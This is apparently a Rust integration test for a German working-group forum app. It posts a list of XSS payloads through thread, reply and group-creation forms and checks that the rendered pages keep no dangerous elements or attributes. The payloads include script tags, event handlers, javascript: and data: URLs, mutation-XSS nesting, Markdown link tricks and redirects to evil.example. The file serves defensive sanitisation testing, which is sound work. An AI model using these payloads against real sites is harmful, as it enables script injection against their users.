//! What people write in working groups, rendered as a browser reads it: a
//! corpus of XSS payloads (script, event handlers, `javascript:` and
//! `data:` URLs, SVG, malformed and nested HTML, Markdown link and image
//! tricks) posted through the forms, then every element and attribute of
//! the thread page checked; and hostile names and titles in every place a
//! group's pages show them.

use crate::hostile_rendering::{injected, HOSTILE};
use crate::support::TestApp;

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">klick</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">klick</a>",
    "<a href=\"&#106;avascript:alert(1)\">entity</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "[md link](javascript:alert(1))",
    "[md data](data:text/html,<script>alert(1)</script>)",
    "[md spaced](<javascript:alert(1)>)",
    "![md image](javascript:alert(1))",
    "![tracker](https://tracker.example/pixel.gif)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<div style=\"background:url(javascript:alert(1))\">style</div>",
    "<p onclick=alert(1) onmouseover=alert(1)>handlers</p>",
    "<form action=\"https://evil.example\"><input name=x><button>Senden</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<b><i><u>unclosed <a href=\"https://ok.example\">nested</b></i>",
    "<<script>script>alert(1)<</script>/script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"/\\evil.example\">backslash</a>",
    "`<script>alert(1)</script>` in code",
    "```\n<script>alert(1)</script>\n```",
    "<evil-tag data-evil=\"1\">x</evil-tag>",
];

/// Everything on the page a post could have smuggled in.
fn dangerous(html: &str) -> Vec<String> {
    let document = scraper::Html::parse_document(html);
    let mut found = injected(html);
    // The page's frame (the header's menu icon is an SVG) is ours; what a
    // post can reach is inside `<main>`.
    let main = scraper::Selector::parse("main *").unwrap();
    for element in document.select(&main) {
        let element = element.value();
        let name = element.name();
        if ["iframe", "object", "embed", "svg", "math", "style", "base", "img"].contains(&name) {
            found.push(format!("<{name}>"));
        }
        // Our templates write no script but the hydration bundle's, with a nonce.
        if name == "script" && element.attr("nonce").is_none() {
            found.push("<script> without nonce".into());
        }
        if name == "link" && element.attr("href").is_some_and(|h| h.contains("evil")) {
            found.push("<link> to another host".into());
        }
        if name == "form" && element.attr("action").is_some_and(|a| a.contains("evil")) {
            found.push("<form> to another host".into());
        }
        for (attribute, value) in element.attrs() {
            if attribute.starts_with("on") || attribute == "style" {
                found.push(format!("<{name} {attribute}>"));
            }
            let lowered: String = value
                .chars()
                .filter(|c| !c.is_whitespace())
                .collect::<String>()
                .to_lowercase();
            if (attribute == "href" || attribute == "src" || attribute == "action")
                && (lowered.starts_with("javascript:")
                    || lowered.starts_with("data:")
                    || lowered.contains("evil.example"))
            {
                found.push(format!("<{name} {attribute}={value:?}>"));
            }
        }
    }
    found
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_posts_render_harmless() {
    let app = TestApp::spawn().await;
    let client = app.new_client();
    // Kiel's owner moderates the demo's public KI group.
    app.log_in(&client, "olaf.ohlsen@kiel.example", "Kiel-Eigentum-2026")
        .await;
    let response = app
        .post_form_as(
            &client,
            "/arbeitsgruppen/ki-in-der-verwaltung/neues-thema",
            &[("title", HOSTILE), ("body", PAYLOADS[0])],
        )
        .await;
    assert_eq!(response.status(), 303);
    let thread = response.headers()["location"].to_str().unwrap().to_owned();
    assert!(
        thread.starts_with("/arbeitsgruppen/ki-in-der-verwaltung/themen/"),
        "{thread}"
    );
    for payload in &PAYLOADS[1..] {
        let response = app
            .post_form_as(
                &client,
                &format!("{thread}/antworten"),
                &[("reply_to", "1"), ("body", payload)],
            )
            .await;
        assert_eq!(response.status(), 303, "{payload}");
    }
    let mut pages = vec![thread.clone()];
    pages.push(format!("{thread}?seite=2"));
    for page in &pages {
        let (status, html) = app.html_as(&client, page).await;
        assert_eq!(status, 200, "{page}");
        let found = dangerous(&html);
        assert!(found.is_empty(), "{page}: {found:?}");
    }
    let mut html = String::new();
    for page in &pages {
        html.push_str(&app.html_as(&client, page).await.1);
    }
    // The harmless parts survive: link texts, code shown as text, the quote.
    assert!(
        html.contains("klick") && html.contains("md link") && html.contains("nested"),
        "texts kept"
    );
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "code is shown as text"
    );
    assert!(
        html.contains(r#"href="https://tracker.example/pixel.gif""#),
        "an image is a link, not a fetch"
    );
    // The versions page shows the source as text.
    let (status, html) = app.html_as(&client, &format!("{thread}/beitraege/2/versionen")).await;
    assert_eq!(status, 200);
    assert!(dangerous(&html).is_empty(), "{:?}", dangerous(&html));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_group_names_and_summaries_stay_text() {
    let app = TestApp::spawn().await;
    let client = app.new_client();
    app.log_in(&client, "olaf.ohlsen@kiel.example", "Kiel-Eigentum-2026")
        .await;
    let response = app
        .post_form_as(
            &client,
            "/arbeitsgruppen/neu",
            &[
                ("name", HOSTILE),
                ("slug", "feindlich"),
                ("summary", HOSTILE),
                ("description", PAYLOADS.join("\n\n").as_str()),
                ("visibility", "public"),
                ("joining", "request"),
                ("land", ""),
                ("agreement", ""),
            ],
        )
        .await;
    assert_eq!(response.status(), 303);
    assert_eq!(response.headers()["location"], "/arbeitsgruppen/feindlich");
    app.post_form_as(
        &client,
        "/arbeitsgruppen/feindlich/neues-thema",
        &[("title", HOSTILE), ("body", HOSTILE)],
    )
    .await;
    // A request to join with a hostile message, as the chair will see it.
    let other = app.new_client();
    app.log_in(&other, "lea.lorenzen@luebeck.example", "Luebeck-Eigentum-2026")
        .await;
    app.post_form_as(&other, "/arbeitsgruppen/feindlich/beitreten", &[("message", HOSTILE)])
        .await;
    for path in [
        "/arbeitsgruppen",
        "/arbeitsgruppen/feindlich",
        "/arbeitsgruppen/feindlich/themen/1",
        "/arbeitsgruppen/feindlich/neues-thema",
        "/arbeitsgruppen/feindlich/themen/1/beitraege/1/versionen",
    ] {
        let (status, html) = app.html_as(&client, path).await;
        assert_eq!(status, 200, "{path}");
        let found = dangerous(&html);
        assert!(found.is_empty(), "{path}: {found:?}");
    }
    let (_, html) = app.html_as(&client, "/arbeitsgruppen/feindlich").await;
    assert!(html.contains("Beitrittsanfragen"), "the chair sees the request");
}
